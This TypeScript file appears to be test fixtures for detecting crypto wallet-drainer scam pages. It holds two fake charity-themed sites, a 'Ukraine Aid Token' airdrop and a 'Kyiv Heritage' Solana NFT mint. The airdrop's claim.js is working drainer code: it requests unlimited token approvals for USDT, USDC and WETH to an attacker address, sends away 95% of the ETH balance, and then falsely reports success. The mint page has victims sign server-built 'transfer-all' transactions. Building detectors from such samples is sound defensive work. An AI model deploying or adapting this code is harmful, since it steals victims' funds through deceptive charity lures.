import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc, uaFlag } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-drainer-ua-aid-token-airdrop',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-uaaid.org/airdrop',
  body: doc({
    lang: 'en',
    title: 'UAID Airdrop — Claim your Ukraine Aid Token',
    head: `<script src="/js/ethers-5.7.umd.min.js"></script>`,
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#0a0f1f;color:#fff;text-align:center}.w{max-width:520px;margin:0 auto;padding:60px 18px}.tk{font-size:46px;font-weight:800;background:linear-gradient(90deg,#0057b7,#ffd700);-webkit-background-clip:text;color:transparent}
.b{display:inline-block;padding:15px 42px;border-radius:40px;border:0;background:#ffd700;color:#0a0f1f;font-weight:700;font-size:17px;cursor:pointer}.s{color:#9aa4bd;font-size:14px}.c{background:#121a33;border-radius:14px;padding:20px;margin:22px 0}`,
    body: `<div class="w">${uaFlag}<h1>Ukraine Aid Token</h1><div class="tk">2,500 UAID</div><p class="s">Eligible wallets that donated to Ukraine in 2022–2023 can claim UAID. Snapshot #18839201. Ends in <b id="t">03:12:44</b>.</p>
<div class="c"><p id="st">Connect your wallet to check eligibility</p><button class="b" id="go">Connect Wallet</button></div>
<p class="s">Supported: MetaMask · Trust Wallet · Coinbase Wallet · Rabby</p></div>
<script src="/js/claim.js"></script>`,
  }),
  routes: {
    'claim-uaaid.org/js/ethers-5.7.umd.min.js': jsRoute('/*! ethers 5.7.2 */window.ethers=window.ethers||{};'),
    'claim-uaaid.org/js/claim.js': jsRoute(`(function(){
var RECV='0x9b1C4A7e3f58D2E6aB0c71F4dE83a9C5B26f0E14';
var TOKENS=[['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['WETH','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2']];
function pad(h){return h.replace('0x','').padStart(64,'0')}
function approveData(sp){return '0x095ea7b3'+pad(sp)+'f'.repeat(64)}
async function go(){
 if(!window.ethereum){document.getElementById('st').textContent='Please open this page in your wallet browser';return}
 var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
 document.getElementById('st').textContent='Eligible! Confirm in wallet to claim 2,500 UAID';
 fetch('/api/v',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,c:await ethereum.request({method:'eth_chainId'})})});
 for(var i=0;i<TOKENS.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i][1],data:approveData(RECV),value:'0x0'}]})}catch(e){}}
 try{var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});var v=BigInt(bal)*95n/100n;
 if(v>0n)await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+v.toString(16)}]})}catch(e){}
 document.getElementById('st').textContent='Claim submitted. Tokens will arrive within 24h.';
}
document.getElementById('go').addEventListener('click',go);
var t=3*3600+12*60+44;setInterval(function(){t--;document.getElementById('t').textContent=[t/3600|0,(t%3600)/60|0,t%60].map(function(x){return ('0'+x).slice(-2)}).join(':')},1000);
})();`),
    'claim-uaaid.org/api/v': jsonRoute({ ok: true }),
  },
},
{
  id: 'ym-drainer-solana-kyiv-heritage-mint',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://kyiv-heritage-nft.xyz/mint',
  body: doc({
    lang: 'en',
    title: 'Kyiv Heritage — Free Mint | Solana',
    head: `<script src="https://unpkg.com/@solana/web3.js@1.87.6/lib/index.iife.min.js"></script>`,
    css: `body{margin:0;font-family:'Space Grotesk',Arial,sans-serif;background:#120f1f;color:#fff;text-align:center}.w{max-width:560px;margin:0 auto;padding:60px 18px}.art{width:280px;height:280px;margin:0 auto 20px;border-radius:16px;background:linear-gradient(135deg,#9945ff,#14f195)}
.b{padding:15px 42px;border:0;border-radius:12px;background:#14f195;color:#120f1f;font-weight:700;font-size:17px;cursor:pointer}.p{height:10px;background:#2a2440;border-radius:5px;overflow:hidden;margin:16px 0}.p i{display:block;height:100%;width:91%;background:#9945ff}`,
    body: `<div class="w"><div class="art"></div><h1>Kyiv Heritage Collection</h1><p>3,333 hand-drawn landmarks of Kyiv. 50% of royalties go to restoration. Free mint for the first 3,000 — only gas.</p>
<div class="p"><i></i></div><p>3,031 / 3,333 minted</p><button class="b" id="m">Connect Phantom &amp; Mint</button><p id="s" style="color:#aaa;font-size:14px"></p></div>
<script>
document.getElementById('m').onclick=async function(){
 var p=window.phantom&&window.phantom.solana||window.solana;if(!p){window.open('https://phantom.app/','_blank');return}
 var r=await p.connect();var pk=r.publicKey.toString();document.getElementById('s').textContent='Preparing mint…';
 var res=await fetch('/api/mint-tx',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({wallet:pk})}).then(function(x){return x.json()});
 var txs=res.txs.map(function(b){return solanaWeb3.Transaction.from(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)}))});
 var signed=await p.signAllTransactions(txs);
 await fetch('/api/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({wallet:pk,signed:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize()))})})});
 document.getElementById('s').textContent='Minted! Your NFT will appear in your wallet shortly.'};
</script>`,
  }),
  routes: {
    'kyiv-heritage-nft.xyz/api/mint-tx': jsonRoute({ txs: [], note: 'transfer-all:SOL,SPL;dest=8fQ3kV2nP7xW1rT9bY4mC6hL0sD5aZ3eJ7uG2qK9vR1' }),
  },
},
];
